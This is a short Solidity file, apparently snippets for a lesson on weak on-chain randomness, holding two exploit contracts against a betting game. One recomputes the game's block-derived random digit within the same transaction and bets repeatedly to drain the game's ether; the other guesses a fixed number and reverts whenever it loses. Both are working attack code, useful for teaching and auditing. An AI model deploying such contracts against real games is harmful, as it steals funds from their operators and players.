// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IGame {
    function play(uint256 guess) external payable;
}

// #region predict
/// Computes each digit as the game does, in the same transaction and therefore from the same values.
contract Predictor {
    function attack(IGame game, bytes32 seed) external payable {
        for (uint256 round = 0; address(game).balance >= 8 ether; round++) {
            uint256 digit = uint256(keccak256(abi.encode(seed, block.prevrandao, block.timestamp, round))) % 10;
            game.play{value: 1 ether}(digit);
        }
    }

    receive() external payable {}
}
// #endregion predict

// #region undo
/// Computes nothing. Always guesses 7, and undoes the call if it has lost.
contract Undoer {
    function attempt(IGame game) external payable {
        uint256 before = address(this).balance;
        game.play{value: 1 ether}(7);
        require(address(this).balance > before, "lost");
    }

    receive() external payable {}
}
// #endregion undo
